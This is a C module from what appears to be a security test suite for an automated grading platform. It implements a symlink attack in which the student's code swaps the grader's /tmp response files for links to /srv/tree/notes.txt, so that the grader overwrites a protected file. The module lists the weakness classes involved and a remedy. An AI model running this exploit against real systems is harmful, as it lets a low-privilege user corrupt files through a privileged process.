// SPDX-License-Identifier: MIT
/*
 * Goal:  write a file that the student must not write.
 * Means: somebody who may. The grader writes its answer to a response file in /tmp by its name,
 *        and nothing confines the grader. A symbolic link of that name makes it write where the
 *        link points. The rule that protects links asks about folders with the sticky bit, and the
 *        request's folder has none.
 *
 *     student:  response ---> /srv/tree/notes.txt          grader:  open(response, "w")
 */
#include "attacks/attack.h"

#include <glob.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	glob_t found;
	int r = -1;

	submit("0");
	attempting(b);
	if (glob("/tmp/shimmy/*/response-data-*", GLOB_NOSORT, NULL, &found))
		return denied("/tmp/shimmy");
	for (size_t i = 0; i < found.gl_pathc; i++)
		r = unlink(found.gl_pathv[i]) || symlink("/srv/tree/notes.txt", found.gl_pathv[i]);
	globfree(&found);
	return r ? denied("the response file") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a file of the platform is overwritten by the platform",
	.means = "a symbolic link in the place of the response file, which the grader writes",
	.oracle = "tree",
	.grader = GRADER_FILE,
	.attack_id = "T1565.001, CWE-59, CWE-61, CWE-441",
	.remedy = "a response in a folder that is not the student's user's; O_NOFOLLOW, or an open "
		  "descriptor",
	.refs = (const char *const[]){ "symlink(7)", "proc_sys_fs(5), protected_symlinks", NULL },
	.run = run,
};
